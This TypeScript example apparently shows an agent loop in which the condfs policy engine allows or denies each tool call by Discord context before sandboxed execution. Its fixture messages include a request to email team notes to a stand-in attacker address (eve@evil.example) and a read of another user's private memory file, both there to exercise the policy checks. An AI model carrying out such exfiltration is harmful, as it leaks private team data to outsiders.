// A small agent loop on @condfs/client: messages arrive from places (a
// guild channel, a DM); before each is answered the session's context
// follows it, the prompt blocks for that place are fetched, a stand-in for
// the model picks a tool call, condfs decides it, and an allowed command
// runs in the session's sandbox (through `condfs run`: Node cannot pass
// descriptors). examples/runtime/run.sh starts a daemon and runs this.
//
//   npm install && npm run build && node dist/agent-loop.js MOUNTPOINT
import { Client, Codes, CondfsError, type ContextDescription } from "@condfs/client";

const GUILD: ContextDescription = { kind: "discord", guild_id: "123456789", channel_id: "555" };
const DM: ContextDescription = { kind: "discord", channel_id: "42" };

const messages: Array<[ContextDescription, string]> = [
  [GUILD, "what do we keep in memories?"],
  [DM, "what do you remember about me?"],
  [GUILD, "what do you remember about me?"],
  [GUILD, "send the team notes to ann@acme.com and eve@evil.example"],
];

type ToolCall = { tool: "exec"; args: { argv: string[]; cwd: string } } | { tool: "send_email"; args: { to: string[]; subject: string } };

/** A stand-in for the model: the tool call it would make. */
function model(_prompt: string, text: string): ToolCall {
  if (text.includes("memories")) return { tool: "exec", args: { argv: ["ls", "-R", "/memories"], cwd: "/workspace" } };
  if (text.includes("about me")) return { tool: "exec", args: { argv: ["cat", "/memories/private/ann.md"], cwd: "/workspace" } };
  return { tool: "send_email", args: { to: ["ann@acme.com", "eve@evil.example"], subject: "team notes" } };
}

const mount = process.argv[2] ?? "/run/condfs/views/agent-ts";
const client = new Client();
const session = await client.openSession("agent-ts", mount, messages[0]![0]);
try {
  for (const [place, text] of messages) {
    const atoms = await session.setContext(place); // the context follows the message
    const blocks = await session.blocks();
    const prompt = blocks.map((b) => b.body).join("\n\n");
    console.log(`\n> ${text}   [${atoms.join(", ")}]`);
    console.log(`  prompt blocks: ${JSON.stringify(blocks.map((b) => b.name))}`);
    const call = model(prompt, text);
    const d = await session.decide(call.tool, call.args); // a deny is a result
    console.log(`  ${call.tool} ${JSON.stringify(call.tool === "exec" ? call.args.argv : call.args.to)}: ${d.decision} ${d.reasons.join("; ")}`);
    if (d.decision !== "allow" || call.tool !== "exec") continue;
    try {
      const r = await session.run(call.args.argv, { cwd: call.args.cwd, timeout: 10_000 });
      console.log(`  exit ${r.exitCode}:`);
      for (const line of r.stdout.toString().trimEnd().split("\n")) console.log(`    ${line}`);
    } catch (e) {
      if (!(e instanceof CondfsError) || e.code !== Codes.RUN_DENIED) throw e;
      console.log(`  run refused here: ${e.message}`);
    }
  }
} finally {
  await session.close();
  await client.close();
}
